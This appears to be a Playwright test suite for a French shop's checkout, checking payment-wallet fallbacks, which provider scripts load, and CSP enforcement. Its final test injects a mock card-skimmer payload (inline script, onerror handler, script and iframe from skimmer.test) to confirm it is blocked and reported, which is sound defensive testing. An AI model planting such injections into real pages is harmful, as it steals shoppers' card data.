import type { Page, Route } from "playwright/test"
import { goToPayment } from "./card-steps.ts"
import { testOverRealHosts } from "./real-hosts.ts"
import { expect } from "./shop-test.ts"
import { addProduct, goOn } from "./steps.ts"
import { awaitSheet, main, walletButton } from "./wallet-steps.ts"

const seeded = testOverRealHosts()
const authorizenet = testOverRealHosts({ google: "authorizenet", apple: "authorizenet", card: "authorizenet" })
const braintree = testOverRealHosts({ google: "braintree", apple: "braintree", paypal: "braintree", card: "quickpay" })

const ENDS = {
  blocked: (route: Route) => route.abort("blockedbyclient"),
  "never answered": () => new Promise<void>(() => undefined),
  broken: (route: Route) => route.fulfill({ contentType: "text/javascript", body: "throw new Error('broken')" }),
}

const stripe = "https://js.stripe.com/**"
const paypal = "https://www.paypal.com/sdk/js**"
const amazon = "https://*.payments-amazon.com/**"
const google = "https://pay.google.com/**"
const client = "https://js.braintreegateway.com/**"

/** A library, whose button goes with it, and another wallet that stays. */
const fallen: [typeof seeded, library: string, name: RegExp, stays: string][] = [
  [seeded, stripe, /Google/, "PayPal"],
  [seeded, paypal, /PayPal/, "Amazon Pay"],
  [seeded, amazon, /Amazon/, "PayPal"],
  [authorizenet, google, /Google/, "PayPal"],
  [braintree, client, /Google|PayPal/, "Amazon Pay"],
]
const SHOWN = `${stripe} never answered`

for (const [shop, library, name, stays] of fallen) {
  for (const [end, answer] of Object.entries(ENDS)) {
    const full = `${library} ${end}` === SHOWN ? "" : " @full"
    shop(`@script${full} R12 ${new URL(library).host} ${end}: ${stays} is there within 8 seconds`, async ({ page }) => {
      await page.route(library, answer)
      await addProduct(page, "melange-canut")
      await page.goto("/panier")
      await expect(walletButton(page, stays)).toBeVisible({ timeout: 8_000 })
      await expect(walletButton(page, stays)).toBeEnabled()
      await expect(main(page).getByRole("button", { name })).toHaveCount(0)
      await expect(main(page)).not.toContainText("n’a pas abouti")
      await walletButton(page, stays).click()
      if (stays === "PayPal") await awaitSheet(page, stays)
      else await expect(page).toHaveURL(/^https:\/\/payments\.amazon\.fr\//)
      await page.unrouteAll({ behavior: "ignoreErrors" })
    })
  }
}

/** The scripts of providers that were asked for: host and path. */
const scriptsOf = (asked: readonly string[]) => {
  const scripts = asked.filter((address) => /\.js$|\/js\?|\/v3\/$/.test(address)).map((address) => new URL(address))
  return [...new Set(scripts.map(({ host, pathname }) => host + pathname))].sort()
}

async function readCartPage(page: Page, slug = "melange-canut"): Promise<void> {
  await addProduct(page, slug)
  await page.goto("/panier")
  await page.locator(".express-settled").waitFor({ state: "attached" })
}

seeded(
  "@script S18 the cart loads the scripts of its own wallets only, over connections opened before",
  async ({ page, asked }) => {
    await readCartPage(page)
    const expected = ["js.stripe.com/v3/", "static-eu.payments-amazon.com/checkout.js", "www.paypal.com/sdk/js"]
    expect(scriptsOf(asked)).toEqual(expected)
    const links = page.locator("link[rel=preconnect]")
    const opened = await links.evaluateAll((all) => all.map((link) => new URL((link as HTMLLinkElement).href).host))
    expect(opened.sort()).toEqual(expected.map((script) => script.split("/")[0]))
  },
)

seeded("@script @full S18 a page without encryption loads no wallet's script", async ({ page, asked }) => {
  await page.addInitScript("Object.defineProperty(window, 'isSecureContext', { value: false })")
  await readCartPage(page)
  expect(scriptsOf(asked)).toEqual([])
})

braintree("@script S18 a device that Google refuses loads nothing of Braintree's for it @full", async ({ page, asked }) => {
  await page.addInitScript("window.sandboxCapabilities = { googlePay: false, paypal: false }")
  await readCartPage(page)
  expect(scriptsOf(asked)).toContain("pay.google.com/gp/p/js/pay.js")
  expect(asked.join()).not.toContain("google-payment")
  await expect(walletButton(page, "Google Pay")).toHaveCount(0)
})

braintree(
  "@script @full S18 a device without Apple Pay loads no script for it, and QuickPay's card none",
  async ({ page, asked }) => {
    await readCartPage(page)
    const part = "js.braintreegateway.com/web/3.91.0/js"
    const parts = ["client", "google-payment", "paypal-checkout"].map((name) => `${part}/${name}.min.js`)
    const others = ["pay.google.com/gp/p/js/pay.js", "static-eu.payments-amazon.com/checkout.js", "www.paypal.com/sdk/js"]
    expect(scriptsOf(asked)).toEqual([...parts, ...others].sort())
    asked.length = 0
    await goToPayment(page)
    await main(page)
      .getByRole("radio", { name: /Carte bancaire/ })
      .check()
    await goOn(page)
    await expect(page).toHaveURL(/\/commande\/verification$/)
    expect(asked.join()).not.toMatch(/stripe|apple/)
  },
)

for (const path of ["/panier", "/commande/paiement"]) {
  seeded(
    `@script${path === "/panier" ? " @full" : ""} S18 what is injected into ${path} does not run, and is reported`,
    async ({ page, stack, asked, violations }) => {
      await goToPayment(page)
      await page.route(`**${path}`, async (route) => {
        const answer = await route.fetch({ maxRedirects: 0 })
        const injected = `<script>document.title = "volé"</script><script src="https://skimmer.test/card.js"></script>
        <img src="/rien" onerror="document.title = 'volé'"><iframe src="https://skimmer.test/"></iframe>`
        await route.fulfill({ response: answer, body: (await answer.text()).replace("</main>", `${injected}</main>`) })
      })
      await page.goto(path)
      const refused = ["script-src-elem inline", "script-src-elem https://skimmer.test/card.js", "script-src-attr inline"]
      await expect.poll(() => violations).toEqual(expect.arrayContaining(refused))
      expect(await page.title()).not.toContain("volé")
      expect(asked.join()).not.toContain("skimmer")
      await expect.poll(() => stack.shopLog()).toMatch(new RegExp(`"policy-violation".*"https://skimmer.test".*"${path}"`))
      await page.unrouteAll({ behavior: "ignoreErrors" })
    },
  )
}
